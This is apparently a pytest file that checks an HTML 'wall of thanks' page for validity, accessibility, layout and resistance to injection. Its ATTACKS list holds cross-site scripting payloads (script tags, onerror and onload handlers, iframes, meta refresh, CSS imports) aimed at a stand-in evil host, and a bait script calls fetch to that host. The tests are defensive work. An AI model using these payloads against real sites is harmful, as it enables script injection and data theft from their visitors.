"""The HTML page of the wall in a real browser: valid, accessible, safe, and as it should look."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from store.exchange.digest import Digest, Span
from store.exchange.digest import as_page as digest_page
from store.exchange.thanks import Thanks, chapters, day_heading, web_link
from store.exchange.wall import as_page
from store.text import clean
from tests.hostile import HOSTILE
from tests.page.browser import Browser, Look, validate, without_policy

NEWEST = datetime(2026, 11, 23, 9, 12, tzinfo=UTC)

ATTACKS = (
    "</style><script>owned()</script>",
    "</p></article></main><script src='{evil}/x.js'></script>",
    '"><img src="{evil}/x.png" onerror="owned()">',
    "' onmouseover='owned()' style='background:url({evil}/x)' autofocus onfocus='owned()",
    "<iframe src='{evil}/x'></iframe><object data='{evil}/x'></object><embed src='{evil}/x'>",
    "<link rel=stylesheet href='{evil}/x.css'><style>@import url({evil}/y.css)</style>",
    "<meta http-equiv=refresh content='0;url={evil}/x'><base href='{evil}/'>",
    "<svg onload=owned()><animate onbegin=owned() attributeName=x dur=1s></svg>",
    "<form action='{evil}/x'><input name=a><button>x</button></form><video src='{evil}/x' autoplay></video>",
    "&lt;script&gt;owned()&lt;/script&gt; &#60;img src=x onerror=owned()&#62;",
    "<!-- <script>owned()</script> --> <![CDATA[<script>owned()</script>]]>",
    "]]><script>owned()</script> <?php x ?> <%= x %> ${{owned()}} {{{{owned()}}}}",
)


def thanks(number: int, text: str, **fields: Any) -> Thanks:
    fields = {"giver": "Ana Petrović", "to": ("李 雷", "שרה"), **fields}
    return Thanks(text=text, given=NEWEST - timedelta(days=number, hours=number), **fields)


def usual() -> list[Thanks]:
    """A wall of two months with all that a card can have, in several scripts."""
    texts = (
        "You stayed calm while the import broke, and took it apart with me, line by line.",
        "Danke fürs Drüberschauen.\n\nمرحبا بالجميع وشكرا\n- one\n- two",
        "ขอบคุณมาก · धन्यवाद · ありがとう · 谢谢 · Благодаря · ευχαριστώ",
        "w" * 300,
        "👏",
    )
    joined = (("👏", ("Dee", "Zoë Krüger")), ("🎉", ("مريم",)))
    link = web_link("https://example.org/a?b=c&d=%20#e")
    wall = [thanks(n, texts[n % len(texts)]) for n in range(24)]
    wall[1] = replace(wall[1], theme="craft", link=link, joined=joined)
    wall[2] = replace(wall[2], theme="inclusion & care", answers=True, joined=joined)
    return wall


def hostile(evil: str) -> list[Thanks]:
    """The same of texts that attack the page in every place."""
    texts = [text.format(evil=evil) for text in ATTACKS] + [clean(text, lines=True) for text in HOSTILE]
    return [
        thanks(
            number,
            text,
            giver=text[:80],
            to=(text[:80], text[80:160]),
            theme=text[:80],
            link=web_link(text) or web_link(f"https://example.org/{text}"),
            joined=((text[:16], (text[:80],)),),
        )
        for number, text in enumerate(texts)
    ]


def wall_page(wall: list[Thanks], team: str = "Harbour") -> str:
    return as_page(wall, "Our wall of thanks", team)


def week_page(wall: list[Thanks]) -> str:
    span = Span("week", NEWEST.date() - timedelta(days=6), NEWEST.date())
    return digest_page(Digest("Harbour", span, chapters(([one] for one in wall[:3]), day_heading)))


PAGES = {"wall": wall_page(usual()), "week": week_page(usual()), "empty": wall_page([])}


@pytest.fixture
def browser(tmp_path: Path) -> Browser:
    return Browser(tmp_path)


def test_the_validator_has_nothing_to_say(tmp_path: Path) -> None:
    pages = {**PAGES, "hostile": wall_page(hostile("https://evil.example"), team=ATTACKS[0])}
    files = [tmp_path / f"{name}.html" for name in pages]
    for file, page in zip(files, pages.values(), strict=True):
        file.write_text(page, "utf-8")
    said = validate(*files)
    # It takes no hash for what it is; that the browser does, a test below shows.
    assert [message for message in said if "blocked by “style-src”" not in message] == []


def test_the_validator_would_say_something(tmp_path: Path) -> None:
    file = tmp_path / "wrong.html"
    file.write_text(PAGES["wall"].replace("<article>", '<article role="nonsense"><center>', 1), "utf-8")
    assert len(validate(file)) > 1


LOOKS = [Look(width, dark) for width in (360, 1280) for dark in (False, True)]


@pytest.mark.parametrize("look", LOOKS, ids=str)
@pytest.mark.parametrize("name", PAGES)
def test_the_accessibility_checker_finds_nothing(browser: Browser, name: str, look: Look) -> None:
    found = browser.check(PAGES[name], look)
    assert [(one["id"], one["nodes"][0]["html"][:200]) for one in found["violations"]] == []
    assert [(one["id"], one["nodes"][0]["html"][:200]) for one in found["incomplete"]] == []
    assert len(found["passes"]) > 15


def test_the_accessibility_checker_would_find_something(browser: Browser) -> None:
    faint = PAGES["week"].replace("--quiet: #6b6056;", "--quiet: #999999;").replace(' lang="en"', "")
    found = browser.check(faint, LOOKS[0])
    assert {one["id"] for one in found["violations"]} == {"color-contrast", "html-has-lang"}


@pytest.mark.parametrize("look", LOOKS, ids=str)
def test_the_page_fits_and_wears_the_colours_that_are_wished_for(browser: Browser, look: Look) -> None:
    script = """{
        wide: page.documentElement.scrollWidth,
        paper: view.getComputedStyle(page.documentElement).backgroundColor,
        edges: [...new Set([...page.querySelectorAll('article')].map(a => a.offsetLeft))].length,
        torn: [...page.querySelectorAll('article')].filter(a => a.getClientRects().length > 1).length,
    }"""
    found = browser.ask(PAGES["wall"], script, look)
    assert found["wide"] <= look.width
    assert browser.ask(wall_page(hostile("https://evil.example")), script, look)["wide"] <= look.width
    assert found["paper"] == ("rgb(28, 26, 25)" if look.dark else "rgb(251, 247, 240)")
    assert found["edges"] == (1 if look.width < 500 else 3)
    assert found["torn"] == 0


def test_the_page_takes_no_style_but_its_own(browser: Browser) -> None:
    changed = PAGES["wall"].replace("--paper: #fbf7f0;", "--paper: #fbf7f1;")
    paper = "view.getComputedStyle(page.documentElement).backgroundColor"
    assert browser.ask(changed, paper, LOOKS[0]) == "rgba(0, 0, 0, 0)"


class _Requests:
    """A server on this machine that notes what is asked for; it has one page."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.page = ""
        noted = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                noted.asked.append(self.path)
                body = noted.page.encode() if self.path == "/page" else b""
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                """Says nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture
def requests() -> Iterator[_Requests]:
    noted = _Requests()
    thread = threading.Thread(target=noted.server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield noted
    noted.server.shutdown()
    noted.server.server_close()
    thread.join()


OWNED = "function owned() {{ document.documentElement.className += ' owned'; fetch('{evil}/x') }}"
"""What the attacks call, if only they could."""


def baited(page: str, evil: str) -> str:
    """The page with a script in it that has what the attacks call."""
    return page.replace("<style>", f"<script>{OWNED.format(evil=evil)}</script><style>", 1)


def visit(browser: Browser, requests: _Requests, page: str) -> tuple[str, list[str]]:
    """The class of the page after a visit, and what was asked for besides the page itself."""
    requests.asked, requests.page = [], page
    dom = browser.dom(f"{requests.address}/page")
    assert "/page" in requests.asked
    others = [path for path in requests.asked if path not in ("/page", "/favicon.ico")]
    return dom[: dom.index("<head")], others


def test_hostile_texts_run_nothing_and_ask_for_nothing(browser: Browser, requests: _Requests) -> None:
    page = wall_page(hostile(requests.address), team=ATTACKS[0])
    assert visit(browser, requests, page) == visit(browser, requests, PAGES["empty"])

    # Escaping alone holds: no policy, and a script there that the attacks could call.
    start, others = visit(browser, requests, baited(without_policy(page), requests.address))
    assert "owned" not in start
    assert others == []


def test_the_policy_alone_holds_as_well(browser: Browser, requests: _Requests) -> None:
    """Even where a text came in unescaped; without the policy the same would do harm."""
    attack = ATTACKS[0].format() + "".join(ATTACKS[1:6]).format(evil=requests.address)
    page = baited(PAGES["empty"].replace("<main", f"{attack}<main"), requests.address)
    start, others = visit(browser, requests, page)
    assert "owned" not in start
    assert others == []
    start, others = visit(browser, requests, without_policy(page))
    assert "owned" in start
    assert {"/x", "/x.js", "/x.png", "/x.css"} <= set(others)


class _Outline(HTMLParser):
    """The levels of the headings, in order, and where links go."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.levels: list[int] = []
        self.links: list[dict[str, str | None]] = []
        self.ids: list[str | None] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("h1", "h2", "h3", "h4"):
            self.levels.append(int(tag[1]))
        if tag == "a":
            self.links.append(dict(attrs))
        self.ids += [value for name, value in attrs if name == "id"]


@pytest.mark.parametrize("page", PAGES.values(), ids=PAGES)
def test_headings_are_in_order_and_links_lead_somewhere(page: str) -> None:
    outline = _Outline(page)
    assert outline.levels[0] == 1
    steps = zip(outline.levels, outline.levels[1:], strict=False)
    assert all(1 < after <= before + 1 for before, after in steps)
    assert len(set(outline.ids)) == len(outline.ids)
    for link in outline.links:
        address = link["href"] or ""
        if address.startswith("#"):
            assert address[1:] in outline.ids
        else:
            assert address.startswith(("http://", "https://"))
            assert link["rel"] == "noopener noreferrer"


def test_ten_thousand_are_one_page_of_a_few_megabytes() -> None:
    page = wall_page([thanks(n // 10, "You stayed calm while the import broke.") for n in range(10_000)])
    assert page.count("<article>") == 10_000
    assert len(page) < 6_000_000
